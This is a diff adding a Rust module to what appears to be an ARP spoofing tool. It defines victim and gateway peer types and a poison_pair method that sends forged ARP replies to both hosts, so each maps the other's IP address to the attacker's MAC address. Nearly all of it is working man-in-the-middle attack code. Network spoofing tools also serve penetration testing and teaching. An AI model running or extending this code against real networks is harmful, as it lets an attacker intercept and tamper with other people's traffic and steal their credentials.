@@ -0,0 +1,49 @@
+use std::fmt;
+use std::net::Ipv4Addr;
+
+use pnet::util::MacAddr;
+
+use super::nic::InterfaceError;
+use super::ArpSession;
+
+/// A host taking part in a man-in-the-middle attack, along with its real MAC address.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Peer {
+    pub ip: Ipv4Addr,
+    pub mac: MacAddr,
+}
+
+impl fmt::Display for Peer {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{} ({})", self.ip, self.mac)
+    }
+}
+
+/// Two hosts whose traffic to each other is intercepted, typically a victim and its gateway.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct MitmPair {
+    pub victim: Peer,
+    pub gateway: Peer,
+}
+
+impl MitmPair {
+    /// The caches poisoned by the attack. Each entry is made up of the host whose cache is poisoned and the peer
+    /// whose traffic it is made to send to us.
+    pub fn directions(&self) -> [(Peer, Peer); 2] {
+        [(self.victim, self.gateway), (self.gateway, self.victim)]
+    }
+}
+
+impl ArpSession {
+    /// Performs a single round of a man-in-the-middle attack by sending each peer a forged ARP reply which maps the
+    /// other peer's IP address to the interface's MAC address.
+    ///
+    /// Note: The replies are sent directly to the peers rather than broadcast, so no other host is affected.
+    pub fn poison_pair(&mut self, pair: &MitmPair) -> Result<(), InterfaceError> {
+        for (host, spoofed) in pair.directions() {
+            self.send_reply(host.mac, host.ip, None, Some(spoofed.ip), None)?;
+        }
+
+        Ok(())
+    }
+}